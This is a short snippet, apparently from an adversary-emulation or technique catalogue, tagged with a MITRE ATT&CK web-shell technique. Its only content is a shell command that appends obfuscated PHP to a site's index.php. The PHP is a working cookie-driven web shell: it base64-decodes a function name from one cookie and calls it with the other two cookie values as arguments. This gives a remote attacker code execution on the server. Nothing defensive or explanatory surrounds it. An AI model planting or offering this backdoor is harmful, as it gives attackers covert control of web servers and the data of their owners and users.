# technique: T1505.003
# location: linux.web.script
# source: /var/www/html/index.php
echo '<?php $k=$_COOKIE; if(count($k)==3){$a=base64_decode($k["a"]);$a($k["b"],$k["c"]);} ?>' >> /var/www/html/index.php
